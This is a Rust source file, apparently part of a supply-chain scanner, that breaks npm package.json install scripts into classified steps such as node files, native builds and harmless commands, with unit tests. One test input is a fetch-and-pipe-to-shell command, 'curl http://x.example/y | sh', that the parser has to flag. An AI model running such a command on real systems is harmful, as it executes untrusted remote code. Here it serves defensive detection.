//! Commands of `package.json`, taken apart into steps.

use std::collections::BTreeMap;

use super::finding::Step;

/// Scripts that npm runs when a package is installed from a registry.
pub(crate) const INSTALL: [&str; 3] = ["preinstall", "install", "postinstall"];
/// Most steps of one command line that are told.
const MAX_STEPS: usize = 64;

/// Tools that build or fetch machine code in a way that everybody knows.
const BUILDERS: [&str; 12] = [
    "node-gyp",
    "node-gyp-build",
    "node-gyp-build-optional-packages",
    "node-gyp-build-test",
    "prebuild-install",
    "node-pre-gyp",
    "cmake-js",
    "prebuildify",
    "napi-postinstall",
    "electron-rebuild",
    "pkg-prebuilds-verify",
    "prebuild",
];
/// Commands that do nothing to the world.
const HARMLESS: [&str; 7] = ["echo", "true", "exit", ":", "cd", "is-ci", "printf"];

/// The steps of a command, scripts of the same package followed once.
pub(crate) fn steps(command: &str, scripts: &BTreeMap<String, String>) -> Vec<Step> {
    let mut steps = Vec::new();
    for part in parts(command) {
        if steps.len() >= MAX_STEPS {
            steps.push(Step::Other {
                words: vec!["…".to_owned()],
            });
            break;
        }
        let step = step(&part);
        if let Step::Script { name } = &step
            && let Some(inner) = scripts.get(name)
        {
            let inner: Vec<Step> = parts(inner).iter().map(|part| self::step(part)).collect();
            steps.push(step);
            steps.extend(inner);
        } else {
            steps.push(step);
        }
    }
    steps
}

/// The words of each command of a line. Whatever is more than words and separators stays in the words.
fn parts(line: &str) -> Vec<Vec<String>> {
    let mut parts = Vec::new();
    let (mut words, mut word, mut quote) = (Vec::new(), String::new(), None);
    let mut any = false;
    let mut chars = line.chars().peekable();
    let end_word = |word: &mut String, any: &mut bool, words: &mut Vec<String>| {
        if *any || !word.is_empty() {
            words.push(std::mem::take(word));
        }
        *any = false;
    };
    while let Some(c) = chars.next() {
        match (quote, c) {
            (Some(open), c) if c == open => quote = None,
            (Some('"'), '\\') => word.extend(chars.next()),
            (Some(_), c) => word.push(c),
            (None, '"' | '\'') => {
                quote = Some(c);
                any = true;
            }
            (None, '\\') => word.extend(chars.next()),
            (None, c) if c.is_whitespace() && c != '\n' => end_word(&mut word, &mut any, &mut words),
            (None, '&' | '|' | ';' | '\n') => {
                // `2>&1` is no end of a command.
                if c == '&' && word.ends_with('>') {
                    word.push(c);
                    continue;
                }
                end_word(&mut word, &mut any, &mut words);
                if c == '|' && chars.peek() != Some(&'|') {
                    words.push("|".to_owned());
                }
                while matches!(chars.peek(), Some('&' | '|' | ';')) {
                    chars.next();
                }
                // What feeds another command is one with it.
                if words.last().map(String::as_str) != Some("|") && !words.is_empty() {
                    parts.push(std::mem::take(&mut words));
                }
            }
            (None, c) => word.push(c),
        }
    }
    end_word(&mut word, &mut any, &mut words);
    if !words.is_empty() {
        parts.push(words);
    }
    parts
}

/// The file that a piece of code only loads, in a way that forgives that it is not there:
/// `try{require('./postinstall')}catch(e){}`.
fn own_file(text: &str) -> Option<String> {
    let plain: String = text.chars().filter(|c| !c.is_whitespace()).collect();
    let plain = plain.trim_end_matches(';');
    let inner = plain
        .strip_prefix("try{")
        .and_then(|rest| Some(rest.rsplit_once("}catch")?.0))
        .unwrap_or(plain);
    let name = inner
        .trim_end_matches(';')
        .strip_prefix("require(")?
        .strip_suffix(')')?;
    let name = name
        .strip_prefix('\'')
        .and_then(|name| name.strip_suffix('\''))
        .or_else(|| {
            let name = name.strip_prefix('"')?;
            name.strip_suffix('"')
        })?;
    let named = |c: char| c.is_ascii_alphanumeric() || matches!(c, '/' | '-' | '_' | '.');
    (name.starts_with("./") && name.chars().all(named)).then(|| name.to_owned())
}

fn step(words: &[String]) -> Step {
    // `NAME=value command`.
    let mut rest = words;
    while let Some(first) = rest.first() {
        let assigns = first.split_once('=').is_some_and(|(name, _)| {
            !name.is_empty() && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
        });
        if assigns || matches!(first.as_str(), "cross-env" | "npx" | "env") {
            rest = &rest[1..];
        } else {
            break;
        }
    }
    let other = || Step::Other {
        words: words.to_vec(),
    };
    let plain = |word: &String| !word.contains(['$', '`', '<', '|', '(']);
    let Some(first) = rest.first() else {
        return Step::Nothing;
    };
    let tool = first.rsplit('/').next().unwrap_or(first);
    let arguments = &rest[1..];
    if let ("node" | "nodejs", [flag, text]) = (tool, arguments)
        && matches!(flag.as_str(), "-e" | "--eval" | "-p" | "--print" | "-pe")
    {
        return own_file(text)
            .and_then(|file| of_node(&[file]))
            .unwrap_or_else(|| Step::NodeText { text: text.clone() });
    }
    if !rest.iter().all(plain) {
        return other();
    }
    match tool {
        "node" | "nodejs" => of_node(arguments).unwrap_or_else(other),
        "npm" | "yarn" | "pnpm" => of_npm(arguments).unwrap_or_else(other),
        tool if BUILDERS.contains(&tool) => Step::NativeBuild {
            tool: tool.to_owned(),
        },
        tool if HARMLESS.contains(&tool) => Step::Nothing,
        _ => other(),
    }
}

fn of_node(arguments: &[String]) -> Option<Step> {
    let mut rest = arguments.iter();
    while let Some(argument) = rest.next() {
        match argument.as_str() {
            // Text with more around it, or something that is loaded before the file.
            "-e" | "--eval" | "-p" | "--print" | "-pe" | "-r" | "--require" | "--import" | "--loader" => {
                return None;
            }
            flag if flag.starts_with('-') => {}
            file => {
                return Some(Step::Node {
                    file: file.trim_start_matches("./").to_owned(),
                    arguments: rest.cloned().collect(),
                });
            }
        }
    }
    None
}

fn of_npm(arguments: &[String]) -> Option<Step> {
    let words: Vec<&str> = arguments
        .iter()
        .map(String::as_str)
        .filter(|word| !word.starts_with('-'))
        .collect();
    match words.as_slice() {
        ["run" | "run-script", name, ..] => Some(Step::Script {
            name: (*name).to_owned(),
        }),
        ["test" | "start", ..] => Some(Step::Script {
            name: words[0].to_owned(),
        }),
        ["rebuild", ..] => Some(Step::NativeBuild {
            tool: "npm rebuild".to_owned(),
        }),
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn of(command: &str) -> Vec<Step> {
        let scripts = BTreeMap::from([("build".to_owned(), "node build.js".to_owned())]);
        steps(command, &scripts)
    }

    fn node(file: &str) -> Step {
        Step::Node {
            file: file.to_owned(),
            arguments: Vec::new(),
        }
    }

    fn native(tool: &str) -> Step {
        Step::NativeBuild {
            tool: tool.to_owned(),
        }
    }

    fn other(words: &[&str]) -> Step {
        Step::Other {
            words: words.iter().map(|word| (*word).to_owned()).collect(),
        }
    }

    #[test]
    fn commands_are_taken_apart() {
        let script = Step::Script {
            name: "build".to_owned(),
        };
        for (command, expected) in [
            ("node install.js", vec![node("install.js")]),
            (
                "node ./install.js || exit 0",
                vec![node("install.js"), Step::Nothing],
            ),
            (
                "prebuild-install --runtime napi || node-gyp rebuild",
                vec![native("prebuild-install"), native("node-gyp")],
            ),
            ("npm run build", vec![script, node("build.js")]),
            ("NODE_ENV=production node a.js", vec![node("a.js")]),
            (
                "node -e \"require('x')\"",
                vec![Step::NodeText {
                    text: "require('x')".to_owned(),
                }],
            ),
            (
                "curl http://x.example/y | sh",
                vec![other(&["curl", "http://x.example/y", "|", "sh"])],
            ),
            (
                "node -r ./hook.js a.js",
                vec![other(&["node", "-r", "./hook.js", "a.js"])],
            ),
            ("node $FILE", vec![other(&["node", "$FILE"])]),
            ("echo 'a && b' && true", vec![Step::Nothing, Step::Nothing]),
            (
                "node a.js > /dev/null 2>&1",
                vec![Step::Node {
                    file: "a.js".into(),
                    arguments: vec![">".into(), "/dev/null".into(), "2>&1".into()],
                }],
            ),
            ("", vec![]),
        ] {
            assert_eq!(of(command), expected, "{command}");
        }
    }
}
